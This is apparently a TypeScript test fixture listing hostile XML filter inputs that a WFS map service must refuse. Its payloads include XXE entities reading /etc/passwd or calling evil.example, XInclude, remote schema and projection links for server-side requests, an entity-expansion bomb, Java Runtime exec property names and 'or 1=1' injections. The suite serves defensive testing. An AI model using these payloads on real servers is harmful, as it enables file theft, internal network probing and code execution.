import { type Attacks, filtered, filterOf } from "./Attack.ts";

const isNull = (name: string) =>
  filterOf(`<fes:PropertyIsNull><fes:ValueReference>${name}</fes:ValueReference></fes:PropertyIsNull>`);
const envelope = (attributes: string) =>
  filterOf(
    `<fes:BBOX><fes:ValueReference>geom</fes:ValueReference><gml:Envelope ${attributes}><gml:lowerCorner>0 0</gml:lowerCorner><gml:upperCorner>1 1</gml:upperCorner></gml:Envelope></fes:BBOX>`,
  );
const plain = `<Filter><PropertyIsNull><ValueReference>a</ValueReference></PropertyIsNull></Filter>`;

export const filters: Attacks = {
  refused: [
    ["a filter that is not XML", filtered("hoogte > 3")],
    ["a filter that is not closed", filtered("<Filter>")],
    [
      "a filter with an entity in a file",
      filtered(`<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><Filter>&x;</Filter>`),
    ],
    [
      "a filter with an entity elsewhere",
      filtered(`<!DOCTYPE a [<!ENTITY x SYSTEM "http://evil.example/">]><Filter>&x;</Filter>`),
    ],
    [
      "a filter with a parameter entity",
      filtered(`<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/">%x;]><Filter/>`),
    ],
    [
      "a filter with a document type elsewhere",
      filtered(`<!DOCTYPE Filter SYSTEM "http://evil.example/a.dtd"><Filter/>`),
    ],
    [
      "a filter with entities that grow",
      filtered(`<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><Filter>&b;</Filter>`),
    ],
    ["a filter with a document type in small letters", filtered(`<!doctype a><Filter/>`)],
    ["a filter with a style sheet", filtered(`<?xml-stylesheet href="http://evil.example"?>${plain}`)],
    ["a filter with an instruction", filtered(`<Filter><?php echo 1?></Filter>`)],
    [
      "a filter with an inclusion",
      filterOf(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>`),
    ],
    ["a filter in an encoding of seven bits", filtered(`<?xml version="1.0" encoding="UTF-7"?>${plain}`)],
    ["a filter in an encoding of EBCDIC", filtered(`<?xml version='1.0' encoding='cp037'?>${plain}`)],
    ["a filter in an encoding of two bytes", filtered(`<?xml version="1.0" encoding="UTF-16"?>${plain}`)],
    ["a filter with CDATA", isNull("<![CDATA[exec(1)]]>")],
    ["a filter with a comment", filterOf("<!-- x -->")],
    ["a filter with a comment in a name", isNull("so<!-- -->ort")],
    ["a filter that is a query", filtered(`<wfs:Query xmlns:wfs="x" typeNames="wijken"/>`)],
    [
      "a filter that is a request",
      filtered(`<wfs:GetFeature xmlns:wfs="x"><wfs:Query typeNames="wijken"/></wfs:GetFeature>`),
    ],
    [
      "a filter that is a transaction",
      filtered(`<wfs:Transaction xmlns:wfs="x"><wfs:Delete typeName="wijken"/></wfs:Transaction>`),
    ],
    ["a filter with a query in it", filterOf(`<wfs:Query xmlns:wfs="x" typeNames="wijken"/>`)],
    ["two filters", filtered(`${plain}${plain}`)],
    ["a list of filters", filtered(`(${plain})(${plain})`)],
    ["text behind a filter", filtered(`${plain} or 1=1`)],
    [
      "a filter with a function",
      filterOf(`<fes:Function name="querySingle"><fes:Literal>wijken</fes:Literal></fes:Function>`),
    ],
    [
      "a filter with a function of another prefix",
      filterOf(`<x:Function xmlns:x="http://www.opengis.net/fes/2.0" name="env"/>`),
    ],
    ["a filter with a function in capitals", filterOf(`<FUNCTION name="env"/>`)],
    [
      "a filter with arithmetic",
      filterOf("<Add><ValueReference>a</ValueReference><Literal>1</Literal></Add>"),
    ],
    ["a filter with a property of another layer", isNull("wijken/naam")],
    ["a filter with a property of another workspace", isNull("proef:watergangen/naam")],
    ["a filter with a property upwards", isNull("../wijken/naam")],
    ["a filter with a property of anything", isNull("//*")],
    ["a filter with a property that is code", isNull("exec(java.lang.Runtime.getRuntime(),'id')")],
    ["a filter with a property that is encoded code", isNull("exec&#40;1&#41;")],
    ["a filter with a property in quotes", isNull("a&quot; or 1=1 --")],
    ["a filter with an element as property", isNull("a<Literal/>")],
    ["a filter with another layer's feature", filterOf(`<fes:ResourceId rid="wijken.1"/>`)],
    ["a filter with another layer's feature, encoded", filterOf(`<fes:ResourceId rid="&#119;ijken.1"/>`)],
    [
      "a filter with another layer's feature behind the own",
      filterOf(`<fes:ResourceId rid="bomen.1"/><fes:ResourceId rid="wijken.1"/>`),
    ],
    [
      "a filter with another layer's feature of version 1.1",
      filterOf(`<ogc:FeatureId xmlns:ogc="x" fid="wijken.1"/>`),
    ],
    [
      "a filter with another layer's GML object",
      filterOf(`<ogc:GmlObjectId xmlns:ogc="x" gml:id="wijken.1"/>`),
    ],
    [
      "a filter with another layer's GML object by another prefix",
      filterOf(`<ogc:GmlObjectId xmlns:ogc="x" xmlns:g="http://www.opengis.net/gml" g:id="wijken.1"/>`),
    ],
    [
      "a filter with a link",
      filterOf(`<gml:Point xlink:href="http://10.0.0.1/" xmlns:xlink="http://www.w3.org/1999/xlink"/>`),
    ],
    [
      "a filter with a schema elsewhere",
      filterOf(`<And xsi:schemaLocation="x http://10.0.0.1/a.xsd" xmlns:xsi="x"/>`),
    ],
    [
      "a filter with a schema elsewhere, without a namespace",
      filterOf(`<And xsi:noNamespaceSchemaLocation="http://10.0.0.1/a.xsd" xmlns:xsi="x"/>`),
    ],
    ["a filter with a base elsewhere", filterOf(`<And xml:base="http://evil.example/"/>`)],
    ["a filter with a type of its own", filterOf(`<And xsi:type="x:Evil" xmlns:xsi="x"/>`)],
    ["a filter with a projection elsewhere", envelope(`srsName="http://evil.example/epsg"`)],
    ["a filter with a projection in a file", envelope(`srsName="/etc/passwd"`)],
    ["a filter with a projection in a file by its address", envelope(`srsName="file:///etc/passwd"`)],
    ["a filter with a projection whose path is encoded", envelope(`srsName="&#47;etc&#47;passwd"`)],
    ["a filter with a projection that names a grid", envelope(`srsName="+proj=merc +nadgrids=/etc/passwd"`)],
    [
      "a filter with a frame of time elsewhere",
      filterOf(
        `<fes:After><fes:ValueReference>a</fes:ValueReference><gml:TimeInstant frame="http://evil.example/"/></fes:After>`,
      ),
    ],
    [
      "a filter with a unit elsewhere",
      filterOf(
        `<fes:DWithin><fes:ValueReference>geom</fes:ValueReference><gml:Point><gml:pos>0 0</gml:pos></gml:Point><fes:Distance uom="http://evil.example/m">1</fes:Distance></fes:DWithin>`,
      ),
    ],
    ["a filter nested too deep", filterOf(`${"<Not>".repeat(40)}${"</Not>".repeat(40)}`)],
  ],
  unreadable: [
    ["a filter with a NUL", filtered("<Filter>\0</Filter>")],
    ["a filter with an escape character", filtered("<Filter>\u001b</Filter>")],
  ],
};
